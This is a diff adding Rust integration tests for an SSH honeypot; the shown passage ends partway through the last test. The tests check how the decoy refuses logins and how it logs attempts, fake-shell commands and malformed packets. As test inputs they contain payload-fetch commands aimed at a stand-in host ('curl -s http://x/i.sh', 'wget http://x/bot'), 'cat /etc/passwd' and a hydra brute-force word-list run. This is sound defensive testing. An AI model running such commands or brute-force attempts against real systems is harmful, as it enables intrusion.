@@ -1,0 +1,975 @@
+//! The SSH decoy against the clients attackers use (OpenSSH's ssh with sshpass, paramiko,
+//! hydra) and the tools they check servers with (nmap, ssh-audit, ssh-keyscan, and the real
+//! Debian sshd beside it): what they see, and what the operator reads back.
+
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::path::Path;
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use decoyd::decoy::ssh::profile::Profile;
+
+use crate::harness::*;
+
+fn ssh_sensor(yaml: &str) -> Sensor {
+    Sensor::new().decoy("ssh", yaml).with_host_keys("ssh")
+}
+
+fn stderr(o: &std::process::Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+fn auths<'a>(events: &'a [serde_json::Value], method: &str) -> Vec<&'a serde_json::Value> {
+    of_type(events, "ssh_auth")
+        .into_iter()
+        .filter(|e| e["event"]["method"] == method)
+        .collect()
+}
+
+#[test]
+fn a_wrong_password_is_refused_as_openssh_words_it_and_stored_only_as_a_keyed_hash() {
+    let sensor = ssh_sensor(SSH);
+    let d = sensor.start();
+    let addr = d.addr("ssh");
+
+    let o = sshpass(
+        addr,
+        "alice",
+        "Zq-ssh-secret-1",
+        &[
+            "-o",
+            "NumberOfPasswordPrompts=1",
+            "-o",
+            "PubkeyAuthentication=no",
+        ],
+        Some("true"),
+    );
+    assert_eq!(o.status.code(), Some(255));
+    assert!(
+        stderr(&o).contains("alice@127.0.0.1: Permission denied (publickey,password)."),
+        "{}",
+        stderr(&o)
+    );
+
+    // Three attempts on one paramiko connection are three touches.
+    let seen = paramiko(&[
+        "passwords",
+        "127.0.0.1",
+        &addr.port().to_string(),
+        "bob",
+        "Zq-p1",
+        "Zq-p2",
+        "Zq-p3",
+    ]);
+    assert_eq!(
+        seen[0]["server"],
+        "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5"
+    );
+    for s in &seen[1..] {
+        assert_eq!(s["error"], "AuthenticationException", "{s}");
+        assert_eq!(s["active"], true);
+    }
+
+    let events = sensor.events();
+    let pw = auths(&events, "password");
+    assert_eq!(pw.len(), 4, "{events:#?}");
+    let first = &pw[0]["event"];
+    assert_eq!(first["username"], "alice");
+    assert_eq!(first["result"], "failure");
+    assert_eq!(
+        first["password"]["hmac"],
+        sensor.password_hmac("Zq-ssh-secret-1")
+    );
+    assert_eq!(first["password"]["length"], 15);
+    assert!(first["password"].get("plaintext").is_none());
+    assert!(
+        first["version"]
+            .as_str()
+            .unwrap()
+            .starts_with("SSH-2.0-OpenSSH_")
+    );
+    assert_eq!(first["hassh"].as_str().unwrap().len(), 32);
+    // OpenSSH asks for the method list first; that request is recorded and not a failure.
+    let none = auths(&events, "none");
+    assert_eq!(none[0]["event"]["attempt"], 1);
+    assert_eq!(first["attempt"], 2);
+
+    let paramiko_attempts: Vec<_> = pw[1..].iter().map(|e| &e["event"]).collect();
+    let source = pw[1]["source"].clone();
+    for (i, (e, p)) in paramiko_attempts
+        .iter()
+        .zip(["Zq-p1", "Zq-p2", "Zq-p3"])
+        .enumerate()
+    {
+        assert_eq!(e["username"], "bob");
+        assert_eq!(e["attempt"], i + 1);
+        assert_eq!(e["password"]["hmac"], sensor.password_hmac(p));
+        assert!(
+            e["version"]
+                .as_str()
+                .unwrap()
+                .starts_with("SSH-2.0-paramiko_")
+        );
+        assert_eq!(pw[1 + i]["source"], source, "one connection");
+    }
+    let conns = of_type(&events, "ssh_connection");
+    assert_eq!(conns.len(), 2, "{events:#?}");
+    assert_eq!(conns[0]["event"]["ended"], "closed");
+    assert_eq!(conns[0]["event"]["auth_attempts"], 2);
+    assert_eq!(conns[1]["event"]["auth_attempts"], 3);
+
+    // The operator's text view quotes what the attacker typed.
+    let text = String::from_utf8(sensor.cli(&["events"]).stdout).unwrap();
+    assert!(
+        text.contains("ssh_auth #2 Password user=\"alice\" password=hmac:"),
+        "{text}"
+    );
+
+    let bytes = all_bytes_under(&sensor.data());
+    for p in ["Zq-ssh-secret-1", "Zq-p1", "Zq-p2", "Zq-p3"] {
+        assert!(!contains(&bytes, p), "{p} is stored in clear");
+    }
+}
+
+#[test]
+fn a_public_key_attempt_is_stored_with_the_fingerprint_ssh_keygen_prints() {
+    let sensor = ssh_sensor(SSH);
+    let d = sensor.start();
+    let key = sensor.dir.path().join("id_ed25519");
+    let made = Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "attacker", "-f"])
+        .arg(&key)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let listed = Command::new("ssh-keygen")
+        .arg("-lf")
+        .arg(key.with_extension("pub"))
+        .output()
+        .unwrap();
+    let fingerprint = String::from_utf8(listed.stdout)
+        .unwrap()
+        .split_whitespace()
+        .nth(1)
+        .unwrap()
+        .to_string();
+
+    let o = Command::new("ssh")
+        .args(ssh_options(d.addr("ssh")))
+        .args([
+            "-o",
+            "PasswordAuthentication=no",
+            "-o",
+            "BatchMode=yes",
+            "-i",
+        ])
+        .arg(&key)
+        .args(["root@127.0.0.1", "true"])
+        .output()
+        .unwrap();
+    assert!(
+        stderr(&o).contains("root@127.0.0.1: Permission denied (publickey,password)."),
+        "{}",
+        stderr(&o)
+    );
+    let events = sensor.events();
+    let pk = auths(&events, "publickey");
+    assert_eq!(pk.len(), 1, "{events:#?}");
+    assert_eq!(pk[0]["event"]["username"], "root");
+    assert_eq!(pk[0]["event"]["key"]["algorithm"], "ssh-ed25519");
+    assert_eq!(pk[0]["event"]["key"]["fingerprint"], fingerprint.as_str());
+}
+
+#[test]
+fn the_sixth_failure_ends_the_connection_and_keyboard_interactive_is_refused_as_stock_sshd() {
+    let sensor = ssh_sensor(SSH);
+    let d = sensor.start();
+    let port = d.addr("ssh").port().to_string();
+    let pws: Vec<String> = (1..=7).map(|i| format!("guess-{i}")).collect();
+    let mut args = vec!["passwords", "127.0.0.1", &port, "admin"];
+    args.extend(pws.iter().map(String::as_str));
+    let seen = paramiko(&args);
+    for s in &seen[1..6] {
+        assert_eq!(s["message"], "Authentication failed.", "{s}");
+        assert_eq!(s["active"], true);
+    }
+    // As OpenSSH: the sixth failure ends the connection with "Too many authentication
+    // failures". The decoy's failure reply goes out just before that disconnect (see the
+    // README), so paramiko may report the sixth either way; the seventh reaches no server.
+    let closed = |s: &serde_json::Value| {
+        let m = s["message"].as_str().unwrap();
+        m == "No existing session" || m.contains("transport shut down or saw EOF")
+    };
+    assert!(
+        seen[6]["message"] == "Authentication failed." || closed(&seen[6]),
+        "{}",
+        seen[6]
+    );
+    assert!(closed(&seen[7]), "{}", seen[7]);
+    assert_eq!(seen[7]["active"], false);
+
+    let kbd = paramiko(&["kbd", "127.0.0.1", &port, "admin"]);
+    assert_eq!(kbd[0]["error"], "BadAuthenticationType", "{kbd:?}");
+    assert_eq!(
+        kbd[0]["allowed"],
+        serde_json::json!(["publickey", "password"])
+    );
+
+    let events = sensor.events();
+    let pw = auths(&events, "password");
+    assert_eq!(
+        pw.len(),
+        6,
+        "the seventh never reached the decoy: {events:#?}"
+    );
+    let results: Vec<&str> = pw
+        .iter()
+        .map(|e| e["event"]["result"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        results,
+        [
+            "failure",
+            "failure",
+            "failure",
+            "failure",
+            "failure",
+            "too_many_failures"
+        ]
+    );
+    let conns = of_type(&events, "ssh_connection");
+    assert_eq!(conns[0]["event"]["ended"], "too_many_failures");
+    assert_eq!(conns[0]["event"]["auth_attempts"], 6);
+    let k = auths(&events, "keyboard-interactive");
+    assert_eq!(k.len(), 1);
+    assert_eq!(k[0]["event"]["username"], "admin");
+}
+
+#[test]
+fn hydra_runs_its_word_list_to_the_end_and_every_attempt_it_makes_is_stored() {
+    let sensor = ssh_sensor(&format!("{SSH}limits:\n  max_connections_per_source: 64\n"));
+    let d = sensor.start();
+    let users = ["root", "admin", "deploy", "oracle"];
+    let passwords = [
+        "123456",
+        "password",
+        "Winter2024!",
+        "changeme",
+        "qwerty",
+        "letmein",
+        "P@ssw0rd",
+        "toor",
+    ];
+    let ul = sensor.dir.path().join("users.txt");
+    let pl = sensor.dir.path().join("passwords.txt");
+    std::fs::write(&ul, users.join("\n") + "\n").unwrap();
+    std::fs::write(&pl, passwords.join("\n") + "\n").unwrap();
+    let out = Command::new("hydra")
+        .args(["-t", "16", "-I", "-L"])
+        .arg(&ul)
+        .arg("-P")
+        .arg(&pl)
+        .args(["-s", &d.addr("ssh").port().to_string(), "ssh://127.0.0.1"])
+        .output()
+        .expect("hydra is installed");
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        text.contains("1 of 1 target completed, 0 valid password found"),
+        "{text}"
+    );
+    let tries: usize = text
+        .split_whitespace()
+        .collect::<Vec<_>>()
+        .windows(2)
+        .find(|w| w[1] == "login")
+        .map(|w| w[0].parse().unwrap())
+        .expect("hydra says how many login tries it makes");
+    assert_eq!(tries, users.len() * passwords.len());
+
+    let events = sensor.events();
+    let mut stored = std::collections::BTreeSet::new();
+    for e in auths(&events, "password") {
+        stored.insert((
+            e["event"]["username"].as_str().unwrap().to_string(),
+            e["event"]["password"]["hmac"].as_str().unwrap().to_string(),
+        ));
+    }
+    let mut made = std::collections::BTreeSet::new();
+    for u in users {
+        for p in passwords {
+            made.insert((u.to_string(), sensor.password_hmac(p)));
+        }
+    }
+    assert_eq!(
+        stored, made,
+        "every attempt hydra made is stored, and nothing else"
+    );
+}
+
+/// The server's identification line and its KEXINIT name-lists, read off a raw socket.
+fn server_hello(addr: SocketAddr) -> (String, Vec<Vec<String>>) {
+    let mut s = TcpStream::connect(addr).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    let mut banner = Vec::new();
+    let mut b = [0u8; 1];
+    while !banner.ends_with(b"\r\n") {
+        s.read_exact(&mut b).unwrap();
+        banner.push(b[0]);
+    }
+    s.write_all(b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n")
+        .unwrap();
+    let mut len = [0u8; 4];
+    s.read_exact(&mut len).unwrap();
+    let mut packet = vec![0u8; u32::from_be_bytes(len) as usize];
+    s.read_exact(&mut packet).unwrap();
+    assert_eq!(packet[1], 20, "KEXINIT");
+    let mut r = &packet[1 + 17..];
+    let mut lists = Vec::new();
+    for _ in 0..10 {
+        let n = u32::from_be_bytes(r[..4].try_into().unwrap()) as usize;
+        let list = std::str::from_utf8(&r[4..4 + n]).unwrap();
+        lists.push(if list.is_empty() {
+            Vec::new()
+        } else {
+            list.split(',').map(String::from).collect()
+        });
+        r = &r[4 + n..];
+    }
+    (
+        String::from_utf8(banner).unwrap().trim_end().to_string(),
+        lists,
+    )
+}
+
+/// The lists a profile's build sends, and the lists the decoy sends for it.
+fn build_and_wire_lists(p: Profile) -> (Vec<Vec<String>>, Vec<Vec<String>>) {
+    let d = p.data();
+    let build: Vec<Vec<String>> = [
+        d.kex,
+        d.host_key_algorithms,
+        d.ciphers,
+        d.macs,
+        d.compression,
+    ]
+    .iter()
+    .map(|l| l.iter().map(|s| s.to_string()).collect())
+    .collect();
+    let wire = build
+        .iter()
+        .map(|l| {
+            l.iter()
+                .filter(|n| !d.not_offered.contains(&n.as_str()))
+                .cloned()
+                .collect()
+        })
+        .collect();
+    (build, wire)
+}
+
+#[test]
+fn nmap_and_ssh_audit_see_the_profiles_and_host_keys_survive_a_restart() {
+    let sensor = Sensor::new()
+        .decoy("ubuntu", SSH)
+        .decoy(
+            "debian",
+            &SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"),
+        )
+        .with_host_keys("ubuntu")
+        .with_host_keys("debian");
+    let d = sensor.start();
+    let (u, db) = (d.addr("ubuntu"), d.addr("debian"));
+
+    let nmap = Command::new("nmap")
+        .args([
+            "-sV",
+            "-Pn",
+            "-n",
+            "-p",
+            &format!("{},{}", u.port(), db.port()),
+            "127.0.0.1",
+        ])
+        .output()
+        .expect("nmap is installed");
+    let text = String::from_utf8_lossy(&nmap.stdout).into_owned();
+    assert!(
+        text.contains(&format!(
+            "{}/tcp open  ssh     OpenSSH 9.6p1 Ubuntu 3ubuntu13.5 (Ubuntu Linux; protocol 2.0)",
+            u.port()
+        )),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!(
+            "{}/tcp open  ssh     OpenSSH 9.2p1 Debian 2+deb12u4 (protocol 2.0)",
+            db.port()
+        )),
+        "{text}"
+    );
+
+    for (addr, profile) in [
+        (u, Profile::Openssh96Ubuntu),
+        (db, Profile::Openssh92Debian),
+    ] {
+        let audit = Command::new("ssh-audit")
+            .args([
+                "-j",
+                "--skip-rate-test",
+                "-p",
+                &addr.port().to_string(),
+                "127.0.0.1",
+            ])
+            .output()
+            .expect("ssh-audit is installed");
+        let j: serde_json::Value = serde_json::from_slice(&audit.stdout)
+            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&audit.stdout)));
+        assert_eq!(j["banner"]["raw"], profile.data().id);
+        let names = |k: &str| -> Vec<String> {
+            j[k].as_array()
+                .unwrap()
+                .iter()
+                .map(|a| {
+                    a.get("algorithm")
+                        .unwrap_or(a)
+                        .as_str()
+                        .unwrap()
+                        .to_string()
+                })
+                .collect()
+        };
+        let (_, wire) = build_and_wire_lists(profile);
+        assert_eq!(names("kex"), wire[0], "{profile}");
+        assert_eq!(names("key"), wire[1], "{profile}");
+        assert_eq!(names("enc"), wire[2], "{profile}");
+        assert_eq!(names("mac"), wire[3], "{profile}");
+        assert_eq!(names("compression"), wire[4], "{profile}");
+        for k in ["kex", "key", "enc", "mac"] {
+            for a in j[k].as_array().unwrap() {
+                assert!(
+                    !a["notes"].to_string().contains("unknown algorithm"),
+                    "{profile}: {a}"
+                );
+            }
+        }
+        // And on the wire, the whole KEXINIT: the same lists both ways, in order.
+        let (banner, lists) = server_hello(addr);
+        assert_eq!(banner, profile.data().id);
+        let (_, wire) = build_and_wire_lists(profile);
+        assert_eq!(lists[0], wire[0]);
+        assert_eq!(lists[1], wire[1]);
+        for (i, w) in [(2, 2), (3, 2), (4, 3), (5, 3), (6, 4), (7, 4)] {
+            assert_eq!(lists[i], wire[w], "{profile} list {i}");
+        }
+    }
+
+    let keyscan = |addr: SocketAddr| -> Vec<String> {
+        let o = Command::new("ssh-keyscan")
+            .args([
+                "-p",
+                &addr.port().to_string(),
+                "-t",
+                "rsa,ecdsa,ed25519",
+                "127.0.0.1",
+            ])
+            .output()
+            .expect("ssh-keyscan is installed");
+        let mut keys: Vec<String> = String::from_utf8(o.stdout)
+            .unwrap()
+            .lines()
+            .filter(|l| !l.starts_with('#'))
+            .map(|l| {
+                l.split_whitespace()
+                    .skip(1)
+                    .take(2)
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            })
+            .collect();
+        keys.sort();
+        keys
+    };
+    let before = keyscan(u);
+    assert_eq!(before.len(), 3, "{before:?}");
+    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/ssh_host_keys");
+    for t in ["rsa", "ecdsa", "ed25519"] {
+        let public =
+            std::fs::read_to_string(fixtures.join(format!("ssh_host_{t}_key.pub"))).unwrap();
+        let public: String = public
+            .split_whitespace()
+            .take(2)
+            .collect::<Vec<_>>()
+            .join(" ");
+        assert!(before.contains(&public), "{t}: {before:?}");
+    }
+    assert_eq!(d.stop().code(), Some(0));
+    let d = sensor.start();
+    assert_eq!(keyscan(d.addr("ubuntu")), before);
+}
+
+#[test]
+fn host_keys_are_made_once_private_and_served() {
+    use std::os::unix::fs::PermissionsExt;
+    // No fixture keys: the daemon makes its own on first start.
+    let sensor = Sensor::new().decoy("ssh", SSH);
+    let d = sensor.start();
+    let dir = sensor.data().join("ssh").join("ssh");
+    let o = Command::new("ssh-keyscan")
+        .args([
+            "-p",
+            &d.addr("ssh").port().to_string(),
+            "-t",
+            "rsa,ecdsa,ed25519",
+            "127.0.0.1",
+        ])
+        .output()
+        .unwrap();
+    let scanned = String::from_utf8(o.stdout).unwrap();
+    for t in ["rsa", "ecdsa", "ed25519"] {
+        let key = dir.join(format!("ssh_host_{t}_key"));
+        assert_eq!(
+            std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
+            0o600
+        );
+        let public = std::fs::read_to_string(
+            key.with_extension("pub")
+                .with_file_name(format!("ssh_host_{t}_key.pub")),
+        )
+        .unwrap();
+        let blob = public.split_whitespace().nth(1).unwrap();
+        assert!(scanned.contains(blob), "{t} is the key served");
+    }
+    let rsa = std::fs::read_to_string(dir.join("ssh_host_rsa_key.pub")).unwrap();
+    let listed = Command::new("ssh-keygen")
+        .arg("-lf")
+        .arg(dir.join("ssh_host_rsa_key.pub"))
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&listed.stdout).starts_with("3072 "),
+        "{rsa}"
+    );
+}
+
+#[test]
+fn the_debian_profile_is_what_the_real_debian_sshd_sends() {
+    let sshd = Path::new("/usr/sbin/sshd");
+    assert!(
+        sshd.exists(),
+        "the real sshd is needed (scripts/test installs openssh-server)"
+    );
+    let dir = tempfile::tempdir().unwrap();
+    for t in ["rsa", "ecdsa", "ed25519"] {
+        let bits: &[&str] = if t == "rsa" { &["-b", "3072"] } else { &[] };
+        let ok = Command::new("ssh-keygen")
+            .args(["-q", "-t", t, "-N", ""])
+            .args(bits)
+            .arg("-f")
+            .arg(dir.path().join(format!("ssh_host_{t}_key")))
+            .status()
+            .unwrap();
+        assert!(ok.success());
+    }
+    let port = {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        l.local_addr().unwrap().port()
+    };
+    let mut config = format!(
+        "Port {port}\nListenAddress 127.0.0.1\nUsePAM no\nKbdInteractiveAuthentication no\nPidFile {}/sshd.pid\n",
+        dir.path().display()
+    );
+    for t in ["rsa", "ecdsa", "ed25519"] {
+        config.push_str(&format!(
+            "HostKey {}/ssh_host_{t}_key\n",
+            dir.path().display()
+        ));
+    }
+    std::fs::write(dir.path().join("sshd_config"), config).unwrap();
+    if nix_is_root() {
+        // sshd refuses to start as root without its privilege separation folder.
+        let _ = std::fs::create_dir_all("/run/sshd");
+    }
+    let mut real = Command::new(sshd)
+        .args(["-D", "-e", "-f"])
+        .arg(dir.path().join("sshd_config"))
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let addr: SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
+    wait_for("the real sshd", Duration::from_secs(20), || {
+        TcpStream::connect(addr).ok()
+    });
+    let (banner, lists) = server_hello(addr);
+
+    let sensor = ssh_sensor(&SSH.replace("openssh-9.6p1-ubuntu", "openssh-9.2p1-debian"));
+    let d = sensor.start();
+    let (ours, our_lists) = server_hello(d.addr("ssh"));
+
+    let profile = Profile::Openssh92Debian;
+    let (build, _) = build_and_wire_lists(profile);
+    // The real build sends exactly the lists the profile keeps for it...
+    assert_eq!(lists[0], build[0], "kex");
+    assert_eq!(lists[1], build[1], "host keys");
+    assert_eq!(lists[2], build[2], "ciphers");
+    assert_eq!(lists[4], build[3], "macs");
+    assert_eq!(lists[6], build[4], "compression");
+    // ...and the decoy sends those lists minus exactly the documented gap.
+    for (i, b) in [(0, 0), (1, 1), (2, 2), (4, 3), (6, 4)] {
+        let expected: Vec<String> = build[b]
+            .iter()
+            .filter(|n| !profile.data().not_offered.contains(&n.as_str()))
+            .cloned()
+            .collect();
+        assert_eq!(our_lists[i], expected);
+    }
+    let version = |b: &str| b.rsplit_once("+deb12u").map(|(v, _)| v.to_string());
+    assert_eq!(version(&banner), version(&ours), "{banner} / {ours}");
+
+    // Both answer a line that is not an identification, and SSH-1, in the same words.
+    for line in [
+        &b"GET / HTTP/1.1\r\n"[..],
+        b"SSH-1.5-Test\r\n",
+        b"SSH-1337\r\n",
+    ] {
+        let answer = |a: SocketAddr| {
+            let bytes = raw(a, line, Duration::from_secs(10));
+            String::from_utf8_lossy(&bytes)
+                .lines()
+                .nth(1)
+                .map(String::from)
+        };
+        assert_eq!(
+            answer(addr),
+            answer(d.addr("ssh")),
+            "{}",
+            String::from_utf8_lossy(line)
+        );
+    }
+
+    // Keyboard-interactive, which the stock build leaves off, is refused the same way.
+    let real_kbd = paramiko(&["kbd", "127.0.0.1", &port.to_string(), "nobody"]);
+    let our_kbd = paramiko(&[
+        "kbd",
+        "127.0.0.1",
+        &d.addr("ssh").port().to_string(),
+        "nobody",
+    ]);
+    assert_eq!(real_kbd, our_kbd);
+    let _ = real.kill();
+    let _ = real.wait();
+}
+
+fn nix_is_root() -> bool {
+    Command::new("id")
+        .arg("-u")
+        .output()
+        .map(|o| o.stdout.starts_with(b"0\n"))
+        .unwrap_or(false)
+}
+
+#[test]
+fn an_accepted_credential_reaches_a_consistent_fake_host_and_every_command_is_recorded() {
+    let sensor = ssh_sensor(&format!(
+        "{SSH}accept:\n  - user: deploy\n    password: \"Zq-Summer-2024\"\nshell:\n  hostname: build-07\n  files:\n    /home/deploy/notes.txt: \"db: 10.0.4.20\\n\"\n"
+    ));
+    let d = sensor.start();
+    let addr = d.addr("ssh");
+    let login = ["-o", "PubkeyAuthentication=no"];
+
+    let o = sshpass(
+        addr,
+        "deploy",
+        "Zq-Summer-2024",
+        &login,
+        Some("cat /etc/passwd"),
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let passwd = String::from_utf8(o.stdout).unwrap();
+    assert!(
+        passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"),
+        "{passwd}"
+    );
+    assert!(
+        passwd.ends_with("deploy:x:1000:1000:deploy:/home/deploy:/bin/bash\n"),
+        "{passwd}"
+    );
+
+    let o = sshpass(
+        addr,
+        "deploy",
+        "Zq-Summer-2024",
+        &login,
+        Some("whoami; uname -a; curl -s http://x/i.sh"),
+    );
+    assert_eq!(o.status.code(), Some(127));
+    assert_eq!(
+        String::from_utf8(o.stdout.clone()).unwrap(),
+        "deploy\nLinux build-07 6.8.0-51-generic #52-Ubuntu SMP PREEMPT_DYNAMIC Thu Dec  5 13:09:44 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n"
+    );
+    assert_eq!(stderr(&o), "bash: line 1: curl: command not found\n");
+
+    let shell = paramiko(&[
+        "shell",
+        "127.0.0.1",
+        &addr.port().to_string(),
+        "deploy",
+        "Zq-Summer-2024",
+        "whoami",
+        "hostname",
+        "cat notes.txt",
+        "wget http://x/bot",
+    ]);
+    let out = shell[0]["output"].as_str().unwrap();
+    assert!(
+        out.starts_with("Welcome to Ubuntu 24.04.1 LTS (GNU/Linux 6.8.0-51-generic x86_64)"),
+        "{out}"
+    );
+    assert!(out.contains("deploy@build-07:~$ "), "{out}");
+    assert!(out.contains("whoami\r\ndeploy\r\n"), "{out}");
+    assert!(out.contains("hostname\r\nbuild-07\r\n"), "{out}");
+    assert!(out.contains("db: 10.0.4.20\r\n"), "{out}");
+    assert!(out.contains("wget: command not found\r\n"), "{out}");
+    assert!(out.contains("logout"), "{out}");
+    // `exit` passes on the status of the last command, as bash does.
+    assert_eq!(shell[0]["status"], 127);
+
+    // Forwarding and sftp are refused as a server that allows neither refuses them.
+    let o = sshpass(
+        addr,
+        "deploy",
+        "Zq-Summer-2024",
+        &["-o", "PubkeyAuthentication=no", "-W", "127.0.0.9:3389"],
+        None,
+    );
+    assert!(
+        stderr(&o).contains("stdio forwarding failed"),
+        "{}",
+        stderr(&o)
+    );
+
+    let events = sensor.events();
+    let accepted: Vec<_> = auths(&events, "password")
+        .into_iter()
+        .filter(|e| e["event"]["result"] == "accepted")
+        .collect();
+    assert_eq!(accepted.len(), 4);
+    let commands: Vec<(String, String, u64)> = of_type(&events, "ssh_command")
+        .iter()
+        .map(|e| {
+            (
+                e["event"]["source"].as_str().unwrap().to_string(),
+                e["event"]["command"].as_str().unwrap().to_string(),
+                e["event"]["status"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    let expected: Vec<(String, String, u64)> = [
+        ("exec", "cat /etc/passwd", 0),
+        ("exec", "whoami; uname -a; curl -s http://x/i.sh", 127),
+        ("shell", "whoami", 0),
+        ("shell", "hostname", 0),
+        ("shell", "cat notes.txt", 0),
+        ("shell", "wget http://x/bot", 127),
+        ("shell", "exit", 127),
+    ]
+    .iter()
+    .map(|(s, c, st)| (s.to_string(), c.to_string(), *st))
+    .collect();
+    assert_eq!(commands, expected);
+    let refused = of_type(&events, "ssh_request");
+    assert_eq!(refused.len(), 1, "{events:#?}");
+    assert_eq!(refused[0]["event"]["request"], "direct-tcpip");
+    assert_eq!(refused[0]["event"]["detail"], "127.0.0.9:3389");
+    assert_eq!(refused[0]["event"]["username"], "deploy");
+    let conns = of_type(&events, "ssh_connection");
+    assert!(
+        conns
+            .iter()
+            .any(|c| c["event"]["accepted_user"] == "deploy" && c["event"]["commands"] == 5)
+    );
+}
+
+#[test]
+fn garbage_oversized_packets_and_silent_clients_are_closed_and_recorded() {
+    let sensor = ssh_sensor(&format!("{SSH}login_grace_time: 1s\n"));
+    let d = sensor.start();
+    let addr = d.addr("ssh");
+    let banner = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n";
+
+    let got = raw(
+        addr,
+        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+        Duration::from_secs(10),
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&got),
+        format!("{banner}Invalid SSH identification string.\r\n")
+    );
+    let got = raw(addr, b"SSH-1.5-OldClient\r\n", Duration::from_secs(10));
+    assert_eq!(
+        String::from_utf8_lossy(&got),
+        format!("{banner}Protocol major versions differ.\r\n")
+    );
+
+    // A packet that claims to be 2 GiB long.
+    let started = Instant::now();
+    let got = raw(
+        addr,
+        b"SSH-2.0-Fuzz\r\n\x7f\xff\xff\xff\x00\x00\x00\x00",
+        Duration::from_secs(10),
+    );
+    assert!(got.starts_with(banner.as_bytes()));
+    assert!(
+        started.elapsed() < Duration::from_secs(5),
+        "closed at once, not at the grace time"
+    );
+
+    // A client that never says who it is is cut off at the login grace time.
+    let started = Instant::now();
+    let mut s = TcpStream::connect(addr).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    let mut got = Vec::new();
+    let _ = s.read_to_end(&mut got);
+    assert_eq!(got, banner.as_bytes());
+    assert!(
+        started.elapsed() >= Duration::from_millis(900)
+            && started.elapsed() < Duration::from_secs(10)
+    );
+
+    // The decoy is unaffected.
+    let o = sshpass(
+        addr,
+        "root",
+        "x",
+        &[
+            "-o",
+            "NumberOfPasswordPrompts=1",
+            "-o",
+            "PubkeyAuthentication=no",
+        ],
+        Some("true"),
+    );
+    assert!(
+        stderr(&o).contains("Permission denied (publickey,password)."),
+        "{}",
+        stderr(&o)
+    );
+
+    let events = sensor.events();
+    let ended: Vec<(String, String)> = of_type(&events, "ssh_connection")
+        .iter()
+        .map(|e| {
+            (
+                e["event"]["ended"].as_str().unwrap().to_string(),
+                e["event"]["preview"].as_str().unwrap_or("").to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        ended[0],
+        ("not_ssh".into(), "GET / HTTP/1.1\\r\\n…".into()),
+        "{ended:?}"
+    );
+    assert_eq!(ended[1].0, "bad_version");
+    assert_eq!(ended[2].0, "protocol_error");
+    assert_eq!(ended[3].0, "login_grace_time");
+    assert_eq!(ended[4].0, "closed");
+    let fuzz = &of_type(&events, "ssh_connection")[2]["event"];
+    assert_eq!(fuzz["version"], "SSH-2.0-Fuzz");
+}
+
+#[test]
+fn the_per_source_cap_refuses_the_extra_connection_and_leaves_room_for_others() {
+    let sensor = ssh_sensor(&format!(
+        "{SSH}limits:\n  max_connections: 4\n  max_connections_per_source: 2\n"
+    ));
+    let d = sensor.start();
+    let addr = d.addr("ssh");
+    let banner = |s: &mut TcpStream| {
+        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+        let mut buf = [0u8; 64];
+        let n = s.read(&mut buf).unwrap_or(0);
+        String::from_utf8_lossy(&buf[..n]).into_owned()
+    };
+    let mut held: Vec<TcpStream> = (0..2).map(|_| TcpStream::connect(addr).unwrap()).collect();
+    for s in &mut held {
+        assert!(banner(s).starts_with("SSH-2.0-OpenSSH_9.6p1"));
+    }
+    let mut third = TcpStream::connect(addr).unwrap();
+    assert_eq!(
+        banner(&mut third),
+        "",
+        "closed without a banner, as sshd past MaxStartups"
+    );
+    // Another source still gets in.
+    let mut other = connect_from("127.0.0.2", addr);
+    assert!(banner(&mut other).starts_with("SSH-2.0-OpenSSH_9.6p1"));
+    drop(held);
+    let refused = wait_for(
+        "the refusal to be recorded",
+        Duration::from_secs(20),
+        || {
+            let events = sensor.events();
+            let r: Vec<serde_json::Value> = of_type(&events, "connection_refused")
+                .into_iter()
+                .cloned()
+                .collect();
+            (!r.is_empty()).then_some(r)
+        },
+    );
+    assert_eq!(refused[0]["event"]["cap"], "max_connections_per_source");
+    assert!(
+        refused[0]["source"]
+            .as_str()
+            .unwrap()
+            .starts_with("127.0.0.1:")
+    );
+}
+
+/// A TCP connection from a chosen loopback address: every client of a test comes from
+/// 127.0.0.1 unless it binds another (std cannot bind before connecting; tokio can).
+fn connect_from(ip: &str, to: SocketAddr) -> TcpStream {
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_io()
+        .build()
+        .unwrap();
+    let s = rt.block_on(async {
+        let s = tokio::net::TcpSocket::new_v4().unwrap();
+        s.bind(format!("{ip}:0").parse().unwrap()).unwrap();
+        s.connect(to).await.unwrap().into_std().unwrap()
+    });
+    s.set_nonblocking(false).unwrap();
+    s
+}
+
+#[test]
+fn every_answered_attempt_survives_sigkill() {
+    let sensor = ssh_sensor(SSH);
+    let d = sensor.start();
+    let addr = d.addr("ssh");
+    let opts = [
+        "-o",
+        "NumberOfPasswordPrompts=1",
+        "-o",
+        "PubkeyAuthentication=no",
+    ];
